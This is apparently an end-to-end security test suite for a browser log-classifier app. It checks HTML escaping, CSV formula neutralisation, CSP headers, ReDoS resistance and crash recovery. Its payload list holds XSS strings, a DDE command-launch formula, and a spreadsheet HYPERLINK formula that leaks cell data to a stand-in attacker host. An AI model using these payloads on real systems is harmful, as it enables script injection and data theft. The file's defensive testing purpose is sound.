/**
 * Privacy, security and faults in the page:
 * - log text is untrusted: HTML/JS payloads in messages, sources, column names and labels show as
 *   text in the table, the summary, the warnings, the patterns and the training set; nothing runs,
 *   no element is injected, the Content-Security-Policy is never even asked to block anything;
 * - the export is safe for spreadsheets by default, raw on request;
 * - the CSP headers (page, workers and service worker) allow only this origin, the LLM worker its hosts;
 * - a rule that backtracks exponentially runs on RE2 (the editor says so) and does not hang;
 * - bad files end in a clear message or warnings, and the page stays usable;
 * - a classify worker that dies mid-run is reported and restarted; the app goes on;
 * - an LLM worker that dies is reported and restarted; its settings come back from storage;
 * - cancel at any point leaves the app usable and the stored state unchanged;
 * - a corrupt stored bundle: the app starts on the built-in default and says so;
 * - the network indicator shows what is sent where (remote LLM on the mock server);
 * - the Storage panel lists what is stored, with sizes, and deletes each.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLine } from '../../src/core/csv/format.ts';
import { startMockOpenAiServer, type MockOpenAiServer } from '../helpers/mock-openai-server.ts';
import { baseUrl, configureRemoteLlm, download, openSession, parseCsv, useBrowser, writeGeneratedCsv, writeLabelledCsv, type Session } from '../helpers/browser.ts';

const env = useBrowser();

/** Records CSP violations and any sign that a payload ran. */
async function guardedSession(): Promise<Session> {
  const s = await openSession(env.browser, { width: 1400, height: 1000 });
  env.session = s;
  await s.page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return s;
}

async function noPayloadRan(page: Page): Promise<void> {
  const state = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss,
    violations: (window as unknown as { __violations: string[] }).__violations,
    handlers: document.querySelectorAll('[onerror], [onload], [onclick], [onmouseover]').length,
    injected: document.querySelectorAll('main img, main iframe, main object, main embed, main script, main marquee').length,
  }));
  expect(state).toEqual({ xss: undefined, violations: [], handlers: 0, injected: 0 });
}

const PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=2</script>',
  '"><svg onload=window.__xss=3>',
  "javascript:window.__xss=4//",
  '<iframe src="javascript:window.top.__xss=5"></iframe>',
  '{@html "<b>6</b>"} <b onmouseover=window.__xss=7>bold</b>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-1+2',
  '@SUM(1)',
  '\tcell starting with a tab',
  '-42',
];
const EVIL_COLUMN = '<img src=y onerror="window.__xss=8">';
const EVIL_LABEL = '<img src=z onerror="window.__xss=9">';
const FORMULA_LABEL = '=1+1';

describe('untrusted log text', () => {
  it('is shown as text everywhere and exported safe by default, raw on request', async () => {
    const path = join(env.tmp.dir, 'payloads.csv');
    // Repeated column names (a warning that names them), payloads as messages and sources, a short row (a warning).
    const lines = [csvLine(['source', 'log_message', EVIL_COLUMN, EVIL_COLUMN])];
    PAYLOADS.forEach((p, i) => lines.push(csvLine([`<b>src${i}</b>`, p, p, `x${i}`])));
    lines.push(csvLine(['ModernHR', 'short row']));
    writeFileSync(path, lines.join(''));

    const { page, requests } = await guardedSession();
    // Rules whose labels are payloads too (they reach the summary, the table and the export).
    await addRule(page, 'HYPERLINK', EVIL_LABEL);
    await addRule(page, 'SUM\\(1\\)', FORMULA_LABEL);
    await page.getByTestId('log-file-input').setInputFiles(path);
    await page.getByTestId('summary').waitFor();

    // The table: every payload as literal text.
    await expect.poll(() => page.getByTestId('result-row').count()).toBe(PAYLOADS.length + 1);
    const cells = await page.getByTestId('results-table').innerText();
    for (const p of PAYLOADS) expect(cells).toContain(p.trim());
    expect(cells).toContain(EVIL_LABEL);
    expect(cells).toContain('<b>src0</b>');
    // The summary (labels) and the warnings (column names, the short row).
    const summary = await page.getByTestId('summary').innerText();
    expect(summary).toContain(EVIL_LABEL);
    expect(summary).toContain(`Column names repeat: ${EVIL_COLUMN.toLowerCase()}`);
    expect(summary).toMatch(/has 2 fields, the header has 4/);

    // The patterns mined from these lines.
    await page.getByTestId('discover-patterns').click();
    await page.getByTestId('pattern-list').waitFor();
    const patterns = await page.getByTestId('pattern-list').innerText();
    expect(patterns).toMatch(/<script>|<img|<svg|<iframe/);

    // The training set and its labels (a labelled file with a payload label).
    const labelled = join(env.tmp.dir, 'payload-labels.csv');
    writeFileSync(labelled, [csvLine(['log_message', 'target_label']), ...PAYLOADS.map((p) => csvLine([p, EVIL_LABEL]))].join(''));
    await page.getByRole('tab', { name: 'Training' }).click();
    await page.getByTestId('training-csv-input').setInputFiles(labelled);
    await expect.poll(() => page.getByTestId('class-table').innerText()).toContain(EVIL_LABEL);
    await expect.poll(() => page.getByTestId('training-set').innerText()).toContain(PAYLOADS[0]);
    await page.getByRole('tab', { name: 'Classify' }).click();

    await noPayloadRan(page);
    expect(requests.some((u) => /\/(x|y|z)$/.test(new URL(u).pathname))).toBe(false);

    // Safe export (the default): formulas neutralised, plain numbers kept, everything else as it was.
    const safe = parseCsv((await download(page)).text);
    expect(safe.rows).toHaveLength(PAYLOADS.length + 1);
    const byIndex = (i: number) => safe.rows[i];
    expect(byIndex(6).log_message).toBe(`'${PAYLOADS[6]}`);
    expect(byIndex(6).target_label).toBe(EVIL_LABEL);
    expect(byIndex(7).log_message).toBe(`'${PAYLOADS[7]}`);
    expect(byIndex(8).log_message).toBe(`'-1+2`);
    expect(byIndex(9).log_message).toBe(`'@SUM(1)`);
    expect(byIndex(9).target_label).toBe(`'${FORMULA_LABEL}`);
    expect(byIndex(10).log_message).toBe(`'\tcell starting with a tab`);
    expect(byIndex(11).log_message).toBe('-42');
    expect(byIndex(0).log_message).toBe(PAYLOADS[0]);
    expect(safe.fields[2]).toBe(EVIL_COLUMN);
    expect(await page.getByTestId('export-note').innerText()).toMatch(/Safe for spreadsheets/);

    // Raw export: exactly as read.
    await page.getByTestId('raw-export').check();
    expect(await page.getByTestId('export-note').innerText()).toMatch(/Raw:.*formulas/);
    const raw = parseCsv((await download(page)).text);
    expect(raw.rows.map((r) => r.log_message)).toEqual([...PAYLOADS, 'short row']);
    expect(raw.rows[9].target_label).toBe(FORMULA_LABEL);
    await noPayloadRan(page);
  });
});

async function addRule(page: Page, pattern: string, label: string): Promise<void> {
  const editor = page.getByTestId('rules-editor');
  await editor.getByRole('button', { name: 'Add rule' }).click();
  const rule = editor.getByTestId('rule').last();
  await rule.getByTestId('rule-pattern').fill(pattern);
  await rule.getByTestId('rule-label').fill(label);
  await editor.getByTestId('save-rules').click();
  await expect.poll(() => editor.getByTestId('rules-status').innerText()).toMatch(/Rules saved/);
}

describe('Content-Security-Policy', () => {
  it('the page, its workers and the LLM worker get their policies; the page cannot reach another origin', async () => {
    const { page } = await guardedSession();
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toMatch(/default-src 'self'/);
    const directive = (policy: string, name: string) => policy.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `));
    // No inline script, no eval: WebAssembly may compile ('wasm-unsafe-eval' runs no JavaScript text).
    expect(directive(meta!, 'script-src')).toBe("script-src 'self' 'wasm-unsafe-eval'");
    expect(meta).toMatch(/connect-src 'self' blob: data:(;|$)/);
    const assets = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name));
    const workerUrl = assets.find((u) => /classify\.worker-.*\.js$/.test(u));
    expect(workerUrl).toBeTruthy();
    const header = async (url: string) => (await fetch(url)).headers.get('content-security-policy') ?? '';
    const pageCsp = await header(baseUrl());
    expect(pageCsp).toMatch(/frame-ancestors 'none'/);
    expect(pageCsp).toMatch(/connect-src 'self' blob: data:;/);
    expect(await header(workerUrl!)).toBe(pageCsp);
    // The service worker runs under its own script's policy: the page's.
    expect(await header(new URL('/sw.js', baseUrl()).href)).toBe(pageCsp);
    expect(readFileSync(resolve(import.meta.dirname, '../../dist/_headers'), 'utf8')).toContain(`/sw.js\n  Content-Security-Policy: ${pageCsp}\n`);
    // The LLM worker's script: the LLM hosts on top.
    const llmUrl = await page.evaluate(async () => {
      const js = [...document.querySelectorAll('script[src]')].map((s) => (s as HTMLScriptElement).src)[0];
      const text = await (await fetch(js)).text();
      return new URL(text.match(/assets\/llm\.worker-[\w-]+\.js/)?.[0] ?? '', location.href).href;
    });
    expect(llmUrl).toMatch(/llm\.worker-/);
    const llmCsp = await header(llmUrl);
    expect(llmCsp).toMatch(/connect-src 'self' blob: data: https:\/\/api\.groq\.com .*http:\/\/127\.0\.0\.1:\*/);
    expect(llmCsp).toMatch(/script-src 'self' 'wasm-unsafe-eval';/);
    // No inline script in the page.
    expect(await page.locator('script:not([src])').count()).toBe(0);
    // The page itself cannot fetch another origin (the same host on another port is another origin).
    const other = `http://127.0.0.1:${Number(new URL(baseUrl()).port) === 9 ? 10 : 9}/`;
    const outcome = await page.evaluate(async (url) => {
      try {
        await fetch(url);
        return 'fetched';
      } catch {
        return 'refused';
      }
    }, other);
    expect(outcome).toBe('refused');
    const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
    expect(violations.some((v) => v.startsWith('connect-src'))).toBe(true);
  });
});

describe('rules cannot hang the page', () => {
  it('shows the engine of each rule and runs ^(a+)+$ on RE2 over 100,000 a and a !', async () => {
    const { page } = await guardedSession();
    const editor = page.getByTestId('rules-editor');
    await editor.getByRole('button', { name: 'Add rule' }).click();
    const rule = editor.getByTestId('rule').last();
    await rule.getByTestId('rule-pattern').fill('^(a+)+$');
    await rule.getByTestId('rule-flags').fill('');
    await rule.getByTestId('rule-label').fill('Security Alert');
    await expect.poll(() => rule.getByTestId('rule-engine').getAttribute('data-engine')).toBe('re2');
    expect(await rule.getByTestId('rule-engine').innerText()).toMatch(/RE2, a linear-time engine/);
    // A plain rule runs on the browser's engine.
    await expect.poll(() => editor.getByTestId('rule').first().getByTestId('rule-engine').getAttribute('data-engine')).toBe('native');
    await editor.getByTestId('save-rules').click();
    await expect.poll(() => editor.getByTestId('rules-status').innerText()).toMatch(/Rules saved/);

    const path = join(env.tmp.dir, 'redos.csv');
    writeFileSync(path, csvLine(['log_message']) + csvLine(['a'.repeat(100_000) + '!']) + csvLine(['aaaa']) + csvLine(['User User1 logged in.']));
    const started = Date.now();
    await page.getByTestId('log-file-input').setInputFiles(path);
    await page.getByTestId('summary').waitFor({ timeout: 20_000 });
    expect(Date.now() - started).toBeLessThan(15_000);
    const out = parseCsv((await download(page)).text);
    expect(out.rows).toHaveLength(3);
    expect(out.rows[0].target_label).not.toBe('Security Alert');
    expect(out.rows[1].target_label).toBe('Security Alert');
    // The page answered all along.
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
  });
});

describe('bad files', () => {
  it('empty, binary, no message column, UTF-16, unbalanced quotes: a clear message or warnings, no lost rows', async () => {
    const { page } = await guardedSession();
    const alert = page.getByRole('alert').filter({ hasText: 'This file could not be classified' });
    const tryFile = async (name: string, content: string | Buffer) => {
      const path = join(env.tmp.dir, name);
      writeFileSync(path, content);
      await page.getByTestId('log-file-input').setInputFiles(path);
    };

    await tryFile('empty.csv', '');
    await alert.waitFor();
    expect(await alert.innerText()).toMatch(/empty/i);

    await tryFile('binary.csv', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0, 0x14, 0, 0, 0, 0xff, 0xfe, 0, 0, 1, 2, 3]));
    await expect.poll(() => alert.innerText()).toMatch(/binary|not a text/i);

    await tryFile('nocolumn.csv', 'when,what\n1,2\n');
    await expect.poll(() => alert.innerText()).toMatch(/No log message column found/);

    // UTF-16 with a BOM: read correctly.
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('source,log_message\nModernHR,User User7 logged in.\n', 'utf16le')]);
    await tryFile('utf16.csv', utf16);
    await page.getByTestId('summary').waitFor();
    expect(await page.getByTestId('summary-rows').innerText()).toBe('1');
    expect(await page.getByTestId('results-table').innerText()).toContain('User User7 logged in.');

    // An unbalanced quote: the rows are kept, with a warning.
    await tryFile('quotes.csv', 'source,log_message\nA,"never closed\nB,second line\nC,third\n');
    await page.getByTestId('summary').waitFor();
    await expect.poll(() => page.getByTestId('summary').innerText()).toMatch(/Warnings/);
    expect(await page.getByTestId('summary').innerText()).toMatch(/quote|could not be parsed/i);
    await noPayloadRan(page);
  });
});

describe('a worker that dies', () => {
  it('is reported and restarted mid-run; the app goes on and nothing stored changed', async () => {
    const { page } = await guardedSession();
    const versionsBefore = await page.getByTestId('version').count();
    const big = writeGeneratedCsv(env.tmp.dir, 'crash.csv', 300_000, 'crash');
    await page.getByTestId('log-file-input').setInputFiles(big.path);
    await page.getByRole('progressbar').first().waitFor();
    // Kill it from inside (what an out-of-memory crash looks like to the page: silence).
    const worker = env.session!.page.workers().find((w) => /classify\.worker/.test(w.url()));
    expect(worker, 'the classify worker').toBeTruthy();
    await worker!.evaluate(() => (self as unknown as { close(): void }).close()).catch(() => {});

    const restarted = page.getByRole('alert').filter({ hasText: 'The worker was restarted' });
    await restarted.waitFor({ timeout: 20_000 });
    expect(await restarted.innerText()).toMatch(/classify worker stopped: it stopped unexpectedly.*work in progress was lost; nothing stored was changed.*restarted/);
    const runAlert = page.getByRole('alert').filter({ hasText: 'This file could not be classified' });
    await runAlert.waitFor();
    expect(await page.getByRole('progressbar').count()).toBe(0);

    // The app works again, on a fresh worker.
    const small = writeGeneratedCsv(env.tmp.dir, 'after-crash.csv', 300, 'after-crash');
    await page.getByTestId('log-file-input').setInputFiles(small.path);
    await page.getByTestId('summary').waitFor();
    expect(await page.getByTestId('summary-rows').innerText()).toBe('300');
    expect(await page.getByTestId('version').count()).toBe(versionsBefore);
    expect(await page.getByTestId('bundle-name').innerText()).toMatch(/built-in/);
  });
});

describe('the LLM worker dies', () => {
  const KEY = 'gsk_llm_crash_KEY_456';
  const MODEL = 'deepseek-r1-distill-llama-70b';
  let mock: MockOpenAiServer;
  beforeAll(async () => {
    mock = await startMockOpenAiServer({ requireKey: KEY });
  });
  afterAll(() => mock?.close());

  it('is reported and restarted; the settings come back from storage and the LLM panel works again', async () => {
    const { page } = await guardedSession();
    const panel = page.getByTestId('llm-panel');
    await configureRemoteLlm(page, { baseUrl: mock.baseUrl, key: KEY, model: MODEL });

    // Kill it from inside: to the page, a crash is silence.
    const worker = env.session!.page.workers().find((w) => /llm\.worker/.test(w.url()));
    expect(worker, 'the LLM worker').toBeTruthy();
    await worker!.evaluate(() => (self as unknown as { close(): void }).close()).catch(() => {});

    const error = panel.getByTestId('llm-error');
    await error.waitFor({ timeout: 20_000 });
    expect(await error.innerText()).toMatch(/The LLM worker stopped: it stopped unexpectedly.*It has been restarted.*LLM settings were read again from storage.*API key held for this tab went with it: enter it again/);

    // A fresh worker with the stored settings: remote, the same host and model.
    await expect.poll(() => page.workers().filter((w) => /llm\.worker/.test(w.url())).length, { timeout: 20_000 }).toBeGreaterThanOrEqual(1);
    expect(await panel.getByRole('radio', { name: /Remote API/ }).isChecked()).toBe(true);
    await expect.poll(() => panel.getByTestId('llm-state').innerText()).toMatch(new RegExp(`In use for the next run: ${MODEL} at ${new URL(mock.baseUrl).host.replace(/\./g, '\\.')}`));
    // It works again: the key, then the server's list (which needs the key).
    await panel.getByLabel('API key').fill(KEY);
    await panel.getByRole('button', { name: 'Use key' }).click();
    await expect.poll(() => panel.getByTestId('llm-notice').innerText()).toMatch(/held until this tab closes/);
    expect(await panel.getByTestId('llm-error').count()).toBe(0);
    await panel.getByRole('button', { name: 'Load models' }).click();
    await expect.poll(() => panel.getByLabel('Model', { exact: true }).locator('option').allInnerTexts()).toContain(MODEL);
    expect(await page.locator('body').innerText()).not.toContain(KEY);
  });
});

describe('cancel at any point', () => {
  it('leaves the app usable and the stored state unchanged (run, download, training)', async () => {
    const { page } = await guardedSession();
    // Some stored state: an edited rule (a version), a training set.
    await addRule(page, 'cancel-marker-\\d+', 'Error');
    const stored = async () =>
      page.evaluate(async () => {
        const open = indexedDB.open('logsift');
        const db = await new Promise<IDBDatabase>((ok, fail) => {
          open.onsuccess = () => ok(open.result);
          open.onerror = () => fail(open.error);
        });
        const read = (store: string) =>
          new Promise<unknown[]>((ok) => {
            const req = db.transaction(store).objectStore(store).getAll();
            req.onsuccess = () => ok(req.result);
          });
        const out = JSON.stringify([await read('versions'), await read('meta'), await read('trainingSet')]);
        db.close();
        return out;
      });
    await page.getByRole('tab', { name: 'Training' }).click();
    await page.getByTestId('training-csv-input').setInputFiles(writeLabelledCsv(env.tmp.dir, 'cancel-labels.csv', 40_000, 'cancel'));
    // Importing 40,000 rows takes the worker a few seconds: longer than a poll's default second.
    await expect.poll(() => page.getByTestId('training-set-size').innerText(), { timeout: 30_000 }).toMatch(/[1-9]/);
    await page.getByRole('tab', { name: 'Classify' }).click();
    const before = await stored();

    const big = writeGeneratedCsv(env.tmp.dir, 'cancel-big.csv', 300_000, 'cancel-big');
    // 1. Right after the start.
    await page.getByTestId('log-file-input').setInputFiles(big.path);
    await page.getByRole('progressbar').first().waitFor();
    await page.keyboard.press('Escape');
    await expect.poll(() => page.getByTestId('run-notice').innerText()).toMatch(/Run cancelled/);
    // 2. Midway.
    await page.getByTestId('log-file-input').setInputFiles(big.path);
    await expect.poll(() => page.getByRole('progressbar').first().getAttribute('aria-valuenow').then((v) => Number(v ?? 0)), { timeout: 30_000 }).toBeGreaterThan(20);
    await page.getByRole('button', { name: 'Cancel run' }).click();
    await expect.poll(() => page.getByTestId('run-notice').innerText()).toMatch(/Run cancelled/);
    expect(await stored()).toBe(before);

    // 3. Training, cancelled.
    await page.getByRole('tab', { name: 'Training' }).click();
    await page.getByTestId('train-button').click();
    const progress = page.getByTestId('train-panel').getByRole('progressbar');
    await progress.waitFor();
    await page.getByTestId('train-panel').getByRole('button', { name: 'Cancel' }).click();
    await expect.poll(() => page.getByTestId('train-notice').innerText()).toMatch(/Training cancelled/);
    expect(await stored()).toBe(before);
    await page.getByRole('tab', { name: 'Classify' }).click();

    // Usable: a run to the end, and its download with Explain (a second pass), cancelled and then done.
    const small = writeGeneratedCsv(env.tmp.dir, 'cancel-small.csv', 2000, 'cancel-small');
    await page.getByTestId('log-file-input').setInputFiles(small.path);
    await page.getByTestId('summary').waitFor();
    await page.getByTestId('explain').check();
    const { text } = await download(page);
    expect(parseCsv(text).rows).toHaveLength(2000);
    expect(await stored()).toBe(before);
  });
});

describe('a corrupt stored bundle', () => {
  it('the app starts on the built-in default and says what happened', async () => {
    const { page } = await guardedSession();
    await page.evaluate(async () => {
      const open = indexedDB.open('logsift');
      const db = await new Promise<IDBDatabase>((ok) => (open.onsuccess = () => ok(open.result)));
      const tx = db.transaction(['versions', 'meta'], 'readwrite');
      tx.objectStore('versions').put({ id: 'v-corrupt', seq: 1, name: 'Broken bundle', json: '{"format": "logsift-bundle", oops' });
      tx.objectStore('meta').put('v-corrupt', 'activeVersion');
      await new Promise((ok) => (tx.oncomplete = ok));
      db.close();
    });
    await page.reload();
    await page.getByTestId('bundle-name').waitFor();
    const notice = page.getByTestId('storage-notice');
    await notice.waitFor();
    expect(await notice.innerText()).toMatch(/“Broken bundle” could not be read.*built-in default is in use/);
    expect(await page.getByTestId('bundle-name').innerText()).toMatch(/built-in/);
    const small = writeGeneratedCsv(env.tmp.dir, 'after-corrupt.csv', 100, 'after-corrupt');
    await page.getByTestId('log-file-input').setInputFiles(small.path);
    await page.getByTestId('summary').waitFor();
  });
});

describe('network indicator and storage', () => {
  let mock: MockOpenAiServer;
  beforeAll(async () => {
    mock = await startMockOpenAiServer({ requireKey: 'gsk_hardening_KEY_123' });
  });
  afterAll(() => mock?.close());

  it('shows nothing sent, then the LLM host and its requests', async () => {
    const { page } = await guardedSession();
    const indicator = page.getByTestId('network-indicator');
    expect(await indicator.getByTestId('network-summary').innerText()).toBe('Nothing sent');
    // A run sends nothing.
    const small = writeGeneratedCsv(env.tmp.dir, 'net.csv', 200, 'net');
    await page.getByTestId('log-file-input').setInputFiles(small.path);
    await page.getByTestId('summary').waitFor();
    expect(await indicator.getByTestId('network-summary').innerText()).toBe('Nothing sent');

    // The remote LLM: listing its models is a request to its host.
    const panel = page.getByTestId('llm-panel');
    await panel.getByRole('radio', { name: /Remote API/ }).check();
    await panel.getByLabel('Base URL').fill(mock.baseUrl);
    await panel.getByLabel('API key').fill('gsk_hardening_KEY_123');
    await panel.getByRole('button', { name: 'Use key' }).click();
    await panel.getByRole('button', { name: 'Load models' }).click();
    const host = new URL(mock.baseUrl).host;
    await expect.poll(() => indicator.getByTestId('network-summary').innerText()).toBe(`Sent to ${host}`);
    await indicator.locator('summary').click();
    const row = indicator.getByTestId('network-host');
    expect(await row.innerText()).toContain(host);
    expect(await row.innerText()).toMatch(/\b1\b/);
    // Never the key.
    expect(await page.locator('body').innerText()).not.toContain('gsk_hardening_KEY_123');
  });

  it('lists what is stored with sizes and deletes each', async () => {
    const { page } = await guardedSession();
    await addRule(page, 'storage-marker', 'Error');
    await page.getByRole('tab', { name: 'Training' }).click();
    await page.getByTestId('training-csv-input').setInputFiles(writeLabelledCsv(env.tmp.dir, 'storage-labels.csv', 300, 'storage'));
    await expect.poll(() => page.getByTestId('training-set-size').innerText()).toMatch(/[1-9]/);
    await page.getByRole('tab', { name: 'Classify' }).click();
    const panel = page.getByTestId('storage-panel');
    await panel.getByTestId('storage-refresh').click();
    const item = (kind: string) => panel.locator(`[data-testid="stored-item"][data-kind="${kind}"]`);
    await expect.poll(() => item('training').innerText()).toMatch(/Training set\s*[1-9][\d,]* labelled lines[\s\S]*\d+(\.\d+)? (B|KB|MB)/);
    await expect.poll(() => item('versions').innerText()).toMatch(/1 version, one of them in use/);
    await expect.poll(() => item('app-cache').count(), { timeout: 30_000 }).toBe(1);
    await expect.poll(async () => (await panel.getByTestId('storage-refresh').click(), item('app-cache').innerText())).toMatch(/Offline copy of logsift[\s\S]*MB/);

    page.on('dialog', (d) => void d.accept());
    await item('training').getByRole('button', { name: /Delete/ }).click();
    await expect.poll(() => item('training').innerText()).toMatch(/0 labelled lines/);
    await page.getByRole('tab', { name: 'Training' }).click();
    await expect.poll(() => page.getByTestId('training-set-size').innerText()).toMatch(/^0|\b0\b/);
  });
});
